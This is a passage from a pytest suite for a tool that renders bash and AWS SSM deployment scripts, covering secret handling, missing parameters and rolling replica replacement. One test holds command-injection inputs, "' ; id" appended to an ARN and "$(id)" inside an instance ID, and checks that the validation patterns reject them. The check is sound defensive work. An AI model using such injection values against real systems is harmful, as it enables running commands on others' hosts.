            assert "VENUE_SYNC" not in run.file(compose.env_file(service.name)).read_text()
    assert "v-arena" not in run.result.stdout + run.result.stderr


def test_a_missing_venue_credential_stops_before_compose_runs(tmp_path: Path) -> None:
    run = run_script(tmp_path, VENUES, ssm_store(VENUES))
    assert run.result.returncode != 0
    assert "missing SSM parameter venues/arena/sync-credential" in run.result.stderr
    assert run.compose_runs() == []


def test_a_missing_parameter_stops_before_compose_runs(tmp_path: Path) -> None:
    store = ssm_store(SHARED)
    del store["/ticketing/dev/services/identity/redis-url"]
    run = run_script(tmp_path, SHARED, store)
    assert run.result.returncode != 0
    assert "missing SSM parameter redis-url" in run.result.stderr
    assert run.compose_runs() == [] and run.by_tool("psql") == []
    assert not run.file(compose.env_file("identity")).exists()


def test_a_value_that_would_break_the_env_file_is_refused(tmp_path: Path) -> None:
    store = ssm_store(SHARED, **{"/ticketing/dev/services/payments/redis-url": "redis://:it's@x"})
    run = run_script(tmp_path, SHARED, store)
    assert run.result.returncode != 0
    assert "REDIS_URL: a quote or newline cannot go into an env file" in run.result.stderr
    assert not run.file(compose.env_file("payments")).exists()
    assert run.compose_runs() == []


def test_script_is_valid_bash() -> None:
    for spec in (SHARED, SPLIT, VENUES):
        result = subprocess.run(
            ["bash", "-n"], input=script_text(spec), capture_output=True, text=True, check=False
        )
        assert result.returncode == 0, result.stderr


TICKETING = catalog.service("ticketing")
ON_ECS = ApplySpec(
    tuple(s for s in SERVICES if s is not TICKETING),
    (DatabaseTarget("shared", SERVICES),),
    bootstrap_only=(TICKETING,),
)


def test_a_service_on_ecs_is_bootstrapped_from_its_password_alone(tmp_path: Path) -> None:
    run = run_script(tmp_path, ON_ECS, ssm_store(ON_ECS))
    assert run.result.returncode == 0, run.result.stderr
    [psql] = run.by_tool("psql")
    assert psql[-1]["TICKETING_DB_PASSWORD"] == "db-ticketing"
    path = "/ticketing/dev/services/ticketing"
    reads = [c for c in run.by_tool("aws") if path in " ".join(c)]
    assert reads == [
        [
            "ssm",
            "get-parameters",
            "--names",
            f"{path}/database-password",
            "--with-decryption",
            "--query",
            "Parameters[].[Name,Value]",
            "--output",
            "json",
        ]
    ]
    assert not run.file(compose.env_file("ticketing")).exists()  # it does not run here
    assert "db-ticketing" not in run.result.stdout + run.result.stderr


def test_a_missing_password_of_a_service_on_ecs_stops_the_run(tmp_path: Path) -> None:
    store = ssm_store(ON_ECS)
    del store["/ticketing/dev/services/ticketing/database-password"]
    run = run_script(tmp_path, ON_ECS, store)
    assert run.result.returncode != 0
    assert "missing SSM parameter database-password" in run.result.stderr
    assert not run.by_tool("psql")


def test_a_service_cannot_be_both_run_and_bootstrapped_only() -> None:
    with pytest.raises(ValueError, match="listed twice"):
        ApplySpec(SERVICES, SHARED.databases, bootstrap_only=(TICKETING,))
    with pytest.raises(ValueError, match="database targets must hold exactly"):
        ApplySpec(
            ON_ECS.services,
            (DatabaseTarget("shared", ON_ECS.services),),
            bootstrap_only=(TICKETING,),
        )


# --- two replicas, replaced one at a time ---------------------------------------------

ROLLING = ApplySpec(
    SERVICES,
    (DatabaseTarget("shared", SERVICES),),
    rolling=(
        host_apply.RollingOwner("identity", (("identity", 8083), ("identity-2", 8183))),
        host_apply.RollingOwner("client-web", (("client-web", 8091), ("client-web-2", 8191))),
    ),
)
TARGET_GROUP_ARN = (
    "arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/identity-tg-3f2a/"
    "0123456789abcdef"
)


def test_rolling_owners_take_the_instance_and_their_target_groups() -> None:
    doc = host_apply.render_apply_document(ROLLING)
    params = doc["parameters"]
    assert {"InstanceId", "IdentityTargetGroupArn", "ClientWebTargetGroupArn"} <= set(params)
    assert re.fullmatch(params["InstanceId"]["allowedPattern"], "i-0123456789abcdef0")
    pattern = params["IdentityTargetGroupArn"]["allowedPattern"]
    assert re.fullmatch(pattern, TARGET_GROUP_ARN)
    for bad in (
        TARGET_GROUP_ARN + "' ; id",
        TARGET_GROUP_ARN.replace("targetgroup", "loadbalancer"),
    ):
        assert not re.fullmatch(pattern, bad)
    assert not re.fullmatch(params["InstanceId"]["allowedPattern"], "i-0123$(id)")
    used = set(PARAMETER.findall(json.dumps(doc["mainSteps"])))
    assert used == set(params)
    script = script_text(ROLLING)
    assert "roll '{{ IdentityTargetGroupArn }}' identity:8083 identity-2:8183" in script
    assert "roll '{{ ClientWebTargetGroupArn }}' client-web:8091 client-web-2:8191" in script
    # Rolled before the converge, which then finds nothing of theirs left to replace.
    assert script.index("roll '{{ Identity") < script.rindex("\nconverge\n")


def test_without_rolling_owners_there_is_no_rolling_line_or_parameter() -> None:
    assert "InstanceId" not in host_apply.render_apply_document(SHARED)["parameters"]
    script = script_text(SHARED)
    assert "roll '" not in script and "deregister-targets" not in script


@pytest.mark.parametrize(
    ("owner", "replicas"),
    [
        ("identity", (("identity", 8083),)),
        ("Identity", (("identity", 8083), ("identity-2", 8183))),
        ("identity", (("identity", 8083), ("identity-2", 80))),
    ],
)
def test_a_rolling_owner_rolls_two_replicas_on_host_ports(
    owner: str, replicas: tuple[tuple[str, int], ...]
) -> None:
    with pytest.raises(ValueError, match=owner):
        host_apply.RollingOwner(owner, replicas)


def test_a_move_stops_the_replicas_the_running_document_has_not_the_new_ones() -> None:
    """The running replicas write until stopped, and the apply that moves a service may also
    change how many it runs: the move stops the candidates the running document declares
    (Compose's `config --services`), whatever the new spec rolls. That it stops them, with
    replicas writing, one to two and two to one, is rehearsed in tests/test_database_move.py."""
    identity = catalog.service("identity")
    databases = (DatabaseTarget("shared", SERVICES), DatabaseTarget("identity", (identity,)))
    rolled = script_text(ApplySpec(SERVICES, databases, moves=(identity,), rolling=ROLLING.rolling))
    single = script_text(ApplySpec(SERVICES, databases, moves=(identity,)))
    compose_file = compose.COMPOSE_FILE
    for script in (rolled, single):
        assert f"RUNNING=$(docker compose -f '{compose_file}' config --services)" in script
        assert "CANDIDATES=('identity' 'identity-2') WRITERS=()" in script
        assert f"""docker compose -f '{compose_file}' stop "${{WRITERS[@]}}"; fi""" in script
        assert f"""docker compose -f '{compose_file}' start "${{WRITERS[@]}}" || true""" in script
